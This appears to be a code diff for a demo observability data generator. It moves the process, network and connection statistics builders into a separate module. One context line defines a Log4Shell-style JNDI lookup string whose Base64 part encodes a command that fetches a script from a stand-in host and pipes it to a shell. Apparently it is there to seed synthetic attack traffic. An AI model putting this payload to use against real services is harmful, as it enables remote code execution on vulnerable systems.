@@ -7,6 +7,7 @@ import type { RowBatch } from '../../types/index.js';
 import { Rng, hash32 } from './rng.js';
 import { ColumnWriter } from './columns.js';
 import type { DemoPod, DemoService, Route, Workload } from './workload.js';
+import { connStatsBatch, networkStatsBatch, processStatsBatch, type ConnCounters, type PodCounters } from './stats.js';
 
 export const SLICE_NS = 100_000_000n;
 /** Rows generated per step at most (bounds the time between yields and the working set). */
@@ -17,13 +18,6 @@ const NS_PER_MS = 1e6;
 const JNDI = '${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC42Ni94fHNo}';
 const AGENTS = ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148', 'curl/8.5.0', 'okhttp/4.12.0'];
 const MESSAGES = new Map<number, string>([[200, 'OK'], [201, 'Created'], [400, 'Bad Request'], [404, 'Not Found'], [500, 'Internal Server Error'], [503, 'Service Unavailable']]);
-
-interface PodCounters {
-  cpuU: number; cpuK: number; minflt: number; majflt: number; rchar: number; wchar: number; rd: number; wr: number;
-  rx: number; tx: number; rxp: number; txp: number; rxErr: number; txDrop: number; reqs: number;
-}
-
-interface ConnCounters { upidHigh: bigint; upidLow: bigint; remote: string; port: number; role: number; open: number; close: number; sent: number; recv: number }
 
 interface Req {
   readonly t: bigint; readonly svc: DemoService; readonly server: DemoPod; readonly client: DemoPod | undefined;
@@ -110,9 +104,9 @@ export class DemoGenerator {
     this.#slice++;
     if (this.#slice % STATS_EVERY_SLICES === 0) {
       const t = start + SLICE_NS;
-      this.#append(store, 'process_stats', this.#processStats(t));
-      this.#append(store, 'network_stats', this.#networkStats(t));
-      this.#append(store, 'conn_stats', this.#connStats(t));
+      this.#append(store, 'process_stats', processStatsBatch(this.#w.pods, this.#pods, this.#rng, t));
+      this.#append(store, 'network_stats', networkStatsBatch(this.#w.pods, this.#pods, this.#rng, t));
+      this.#append(store, 'conn_stats', connStatsBatch(this.#conns, t));
     }
   }
 
@@ -281,65 +275,6 @@ export class DemoGenerator {
       w.str(10, r, `{"txid":${txid},"qr":1,"opcode":0,"aa":1,"tc":0,"rd":1,"ra":1,"ad":0,"cd":0,"rcode":${nx ? 3 : 0},"num_queries":1,"num_answers":${nx ? 0 : 1},"num_auth":0,"num_addl":0}`);
       w.str(11, r, nx ? '{"answers":[]}' : `{"answers":[{"name":"${name}","type":"A","addr":"${target.clusterIp}"}]}`);
       w.num(12, r, Math.round(rng.logNormal(0.35, 0.6) * NS_PER_MS));
-    }
-    return w.finish();
-  }
-
-  #processStats(t: bigint): RowBatch {
-    const w = new ColumnWriter(types('process_stats'), this.#w.pods.length);
-    for (const p of this.#w.pods) {
-      const c = this.#pods[p.index]!;
-      // Idle work between requests, and an occasional major fault.
-      c.cpuU += 2_000_000 + this.#rng.int(3_000_000);
-      c.cpuK += 1_000_000;
-      c.minflt += 20 + this.#rng.int(30);
-      if (this.#rng.next() < 0.05) c.majflt++;
-      c.rd += this.#rng.next() < 0.2 ? 4096 * (1 + this.#rng.int(16)) : 0;
-      c.wr += 4096 * this.#rng.int(4);
-      const rss = p.rssBase + Math.min(c.reqs, 200_000) * 96 + this.#rng.int(2 * 1024 * 1024);
-      const r = w.row();
-      w.i64(0, r, t);
-      w.u128(1, r, p.upidHigh, p.startTicks);
-      w.num(2, r, c.majflt); w.num(3, r, c.minflt);
-      w.num(4, r, c.cpuU); w.num(5, r, c.cpuK);
-      w.num(6, r, 8 + (p.index % 5) * 4);
-      w.num(7, r, p.rssBase * 3 + 512 * 1024 * 1024);
-      w.num(8, r, Math.floor(rss / 4096) * 4096);
-      w.num(9, r, c.rchar + c.rd); w.num(10, r, c.wchar + c.wr);
-      w.num(11, r, c.rd); w.num(12, r, c.wr);
-    }
-    return w.finish();
-  }
-
-  #networkStats(t: bigint): RowBatch {
-    const w = new ColumnWriter(types('network_stats'), this.#w.pods.length);
-    for (const p of this.#w.pods) {
-      const c = this.#pods[p.index]!;
-      if (this.#rng.next() < 0.02) c.rxErr++;
-      if (this.#rng.next() < 0.03) c.txDrop++;
-      const r = w.row();
-      w.i64(0, r, t);
-      w.str(1, r, p.uid);
-      w.num(2, r, c.rx); w.num(3, r, c.rxp); w.num(4, r, c.rxErr); w.num(5, r, 0);
-      w.num(6, r, c.tx); w.num(7, r, c.txp); w.num(8, r, 0); w.num(9, r, c.txDrop);
-    }
-    return w.finish();
-  }
-
-  #connStats(t: bigint): RowBatch {
-    const w = new ColumnWriter(types('conn_stats'), this.#conns.size);
-    for (const c of this.#conns.values()) {
-      const r = w.row();
-      w.i64(0, r, t);
-      w.u128(1, r, c.upidHigh, c.upidLow);
-      w.str(2, r, c.remote);
-      w.num(3, r, c.role === 1 ? c.port : 0);
-      w.num(4, r, c.role);
-      w.num(5, r, 2); // AF_INET
-      w.num(6, r, 1); // HTTP/1.x
-      w.bool(7, r, false);
-      w.num(8, r, c.open); w.num(9, r, c.close); w.num(10, r, c.open - c.close);
-      w.num(11, r, c.sent); w.num(12, r, c.recv);
     }
     return w.finish();
   }
